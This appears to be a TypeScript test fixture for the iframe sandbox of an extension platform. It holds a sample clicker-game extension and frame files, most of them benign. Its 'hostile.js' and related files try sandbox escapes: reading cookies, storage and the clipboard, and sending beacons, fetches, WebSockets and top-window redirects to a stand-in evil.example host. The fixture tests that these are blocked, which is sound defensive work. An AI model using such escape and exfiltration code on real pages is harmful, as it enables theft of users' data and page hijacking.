/** A package whose page shows one of its files in a frame; the URL selects the file. */
export const CODE = `import { defineExtension } from '@satchel/extension-sdk/extension'

const show = (access, summary) => ({ access, summary })

export const CLICKER = defineExtension({
  manifest: {
    id: 'clicker', name: 'Clicker', version: '0.1.0', short_description: 'Counts clicks.', api_version: 1,
    permissions: [
      { id: 'page', reason: 'Shows the game.' },
      { id: 'frames', reason: 'The game has scripts.' },
      { id: 'receive', reason: 'A click can be bought.' },
    ],
  },
  resource: {
    title: { type: 'text', max: 50, doc: 'Its name.' },
    score: { type: 'int', doc: 'Clicks.', by: 'server', default: 0 },
  },
  routes: {
    'GET /p/:id': {
      access: 'public', summary: 'The game', query: { file: { type: 'text', max: 50, doc: 'Which.', default: 'game.html' } },
      async handle({ params, query }, ctx) {
        const { title } = await ctx.items.get(params.id)
        const routes = ['POST /public/:id/score', 'GET /public/:id/:name', 'POST /public/:id/invoices']
        const data = { id: params.id, title }
        return { page: { title, blocks: [
          { kind: 'text', text: 'Play the game.' },
          { kind: 'frame', file: query.file, title: 'The game', height: 300, routes, data },
          { kind: 'print', text: 'Print' },
        ] } }
      },
    },
    'POST /public/:id/score': {
      access: 'public', summary: 'Click', perMinute: 1000,
      async handle({ params }, ctx) {
        const { score } = await ctx.items.get(params.id)
        await ctx.items.update(params.id, { score: score + 1 })
        return { json: { score: score + 1 } }
      },
    },
    'GET /public/:id/:name': {
      access: 'public', summary: 'Read', perMinute: 1000,
      query: { x: { type: 'text', max: 50, doc: 'Any.', optional: true } },
      async handle({ params, query }) { return { json: { name: params.name, x: query.x ?? null } } },
    },
    'POST /public/:id/invoices': {
      access: 'public', summary: 'Buy a click',
      async handle({ params }, ctx) {
        const item = await ctx.items.get(params.id)
        const { paymentRequest, paymentHash } = await ctx.wallets.createInvoice(item.wallet, { sat: 21, itemId: item.id })
        return { json: { payment_request: paymentRequest, payment_hash: paymentHash } }
      },
    },
    'POST /public/:id/secret': {
      access: 'public', summary: 'Not for the frame',
      async handle() { return { json: 'secret' } },
    },
  },
})
`

const page = (script: string, body = ''): string => `<!doctype html>
<html lang="en"><head><title>Game</title><link rel="stylesheet" href="style.css">
<script src="port.js"></script><script type="module" src="${script}"></script></head>
<body>${body}</body></html>
`

/** Its files. `port.js`: `call` sends a request through the port, `finish` writes what came of it. */
export const FRAMES: Readonly<Record<string, string>> = {
  'style.css': "@import 'color.css'; body { margin: 0 }",
  'color.css': 'body { color: blue }',
  'logo.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><path fill="blue" d="M0 0h9v9H0z"/></svg>',
  'port.js': `
    const waiting = new Map()
    const hello = new Promise((resolve) => addEventListener('message', ({ data, ports }) => {
      if (data.satchel === 'frame') resolve({ ...data, port: ports[0] })
    }))
    hello.then(({ port }) => {
      port.onmessage = ({ data }) => {
        if (data.invoice) say('invoice ' + data.invoice)
        else waiting.get(data.id)?.(data)
      }
    })
    let last = 0
    const call = async (request) => {
      const { port, data } = await hello
      const id = ++last
      return new Promise((resolve) => {
        waiting.set(id, resolve)
        port.postMessage({ id, params: { id: data.id }, ...request })
      })
    }
    const within = (ms, promise) =>
      Promise.race([promise, new Promise((resolve) => setTimeout(() => resolve('no answer'), ms))])
    const say = (text) => document.body.append(Object.assign(document.createElement('p'), { textContent: text }))
    const finish = (outcome) => { document.body.dataset.outcome = JSON.stringify(outcome) }`,
  'game.html': page(
    'game.js',
    '<img src="logo.svg" alt="Logo"><button id="click">Click</button><button id="pay">Pay</button>',
  ),
  'game.js': `
    import { greet } from './greet.js'
    const { data, language } = await hello
    say(greet(data.title, language))
    document.getElementById('click').onclick = async () => {
      const { status, json } = await call({ route: 'POST /public/:id/score' })
      say(status + ': ' + json.score)
    }
    document.getElementById('pay').onclick = () => call({ route: 'POST /public/:id/invoices', pay: true })`,
  'greet.js': 'export const greet = (name, language) => `Hello ${name} in ${language}`',
  'calls.html': page('calls.js'),
  'calls.js': `
    const route = 'GET /public/:id/:name'
    const { data: { id } } = await hello
    const read = (name) => within(1500, call({ route, params: { id, name } }))
    const silent = (request) => within(1500, call(request))
    finish({
      name: (await call({ route, params: { id, name: 'ä b?c#d%2F' }, query: { x: 1 } })).json,
      dots: await Promise.all(['..', '.', ''].map((name) => read(name))),
      noName: await silent({ route, params: { id } }),
      missing: (await call({ route, params: { id, name: 'x' }, query: { x: 'y'.repeat(51) } })).status,
      others: await Promise.all([
        'POST /public/:id/secret', 'GET /p/:id', 'GET /api/v1/wallet', 'DELETE /public/:id/score', 'constructor',
        'POST /public/:id/score/', 'post /public/:id/score', undefined, 1, ['POST /public/:id/score'],
      ].map((one) => silent({ route: one }))),
      long: await silent({ route: 'POST /public/:id/score', body: 'x'.repeat(70_000) }),
      ids: await Promise.all([{}, null, 'x'.repeat(65), NaN].map((own) => silent({ route, params: { id, name: 'x' }, id: own }))),
    })`,
  'hostile.html': page(
    'hostile.js',
    `<form id="form" action="/api/v1/auth" method="post"><input name="a"></form><form id="away" action="https://evil.example/f"></form>
     <a id="top" href="https://evil.example/a" target="_top">a</a><a id="blank" href="https://evil.example/b" target="_blank">b</a>
     <a id="save" href="data:text/plain,x" download>c</a><iframe src="https://evil.example/i"></iframe><iframe src="game.html"></iframe>
     <img src="https://evil.example/img"><script src="https://evil.example/s.js"></script><script>window.inline = 1</script>
     <script src="/static/icon.svg"></script><link rel="stylesheet" href="https://evil.example/s.css">
     <object data="https://evil.example/o"></object>`,
  ),
  'hostile.js': `
    await hello
    const tried = async (step) => {
      try { return String(await within(1500, step())) } catch (error) { return error.name }
    }
    const outcome = {
      origin: self.origin,
      parentDocument: await tried(() => parent.document.title),
      parentAddress: await tried(() => top.location.href),
      element: await tried(() => frameElement),
      readCookie: await tried(() => document.cookie),
      setCookie: await tried(() => { document.cookie = 'a=b' }),
      localStorage: await tried(() => localStorage.getItem('secret')),
      sessionStorage: await tried(() => sessionStorage.length),
      indexedDB: await tried(() => new Promise((resolve, reject) => {
        const opening = indexedDB.open('x')
        opening.onsuccess = () => resolve('open')
        opening.onerror = () => reject(opening.error)
      })),
      caches: await tried(() => caches.open('x')),
      serviceWorker: await tried(() => navigator.serviceWorker.register('game.js')),
      worker: await tried(() => new Worker('game.js')),
      fetchOwn: await tried(() => fetch('/api/v1/health')),
      fetchFile: await tried(() => fetch('game.js')),
      fetchAway: await tried(() => fetch('https://evil.example/x', { mode: 'no-cors' })),
      request: await tried(() => new Promise((resolve, reject) => {
        const request = new XMLHttpRequest()
        request.onload = () => resolve('loaded')
        request.onerror = () => reject(new Error('blocked'))
        request.open('GET', '/api/v1/health')
        request.send()
      })),
      events: await tried(() => new Promise((resolve, reject) => {
        const events = new EventSource('/api/v1/health')
        events.onopen = () => resolve('open')
        events.onerror = () => reject(new Error('blocked'))
      })),
      socket: await tried(() => new Promise((resolve, reject) => {
        const socket = new WebSocket('wss://evil.example/ws')
        socket.onopen = () => resolve('open')
        socket.onerror = () => reject(new Error('blocked'))
      })),
      eval: await tried(() => new Function('return 1')()),
      inline: String(window.inline),
      moduleAway: await tried(() => import('https://evil.example/m.js')),
      moduleOfHost: await tried(() => import('/openapi.json')),
      topAway: await tried(() => { top.location = 'https://evil.example/t' }),
      parentAway: await tried(() => { parent.location.replace('https://evil.example/p') }),
      window: await tried(() => window.open('https://evil.example/w')),
      modal: await tried(() => window.confirm('x')),
      place: await tried(() => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, ({ message }) => reject(new Error(message))))),
      clipboard: await tried(() => navigator.clipboard.readText()),
      fullscreen: await tried(() => document.body.requestFullscreen()),
    }
    navigator.sendBeacon('https://evil.example/beacon', 'x')
    navigator.sendBeacon('/api/v1/auth', 'x')
    for (const name of ['top', 'blank', 'save']) document.getElementById(name).click()
    for (const name of ['form', 'away']) document.getElementById(name).submit()
    parent.postMessage({ satchel: 'frame' }, '*')
    finish(outcome)
    `,
  'leaves.html': page('leaves.js'),
  'leaves.js': `
    await hello
    finish({ ready: true })
    setTimeout(() => { location = 'https://evil.example/self?x=1' }, 1000)`,
  'refreshes.html': page('greet.js', '<meta http-equiv="refresh" content="1;url=https://evil.example/r">'),
  'many.html': page('many.js'),
  'many.js': `
    const at = (count) => Promise.all(Array.from({ length: count }, () => call({ route: 'POST /public/:id/score' })))
    const count = (answers, wanted) => answers.filter(({ status }) => status === wanted).length
    const first = await at(100)
    const later = []
    for (let n = 0; n < 15; n += 1) later.push(...(await at(5)))
    finish({ first: [count(first, 200), count(first, 429)], later: [count(later, 200), count(later, 429)] })`,
  'flood.html': page('flood.js'),
  'flood.js': `
    const { port } = await hello
    setInterval(() => { for (let n = 0; n < 100; n += 1) port.postMessage({ id: n, route: 'none' }) }, 10)`,
  'shout.html': page('shout.js'),
  'shout.js': `
    await hello
    setInterval(() => { for (let n = 0; n < 100; n += 1) parent.postMessage('x', '*') }, 10)`,
}
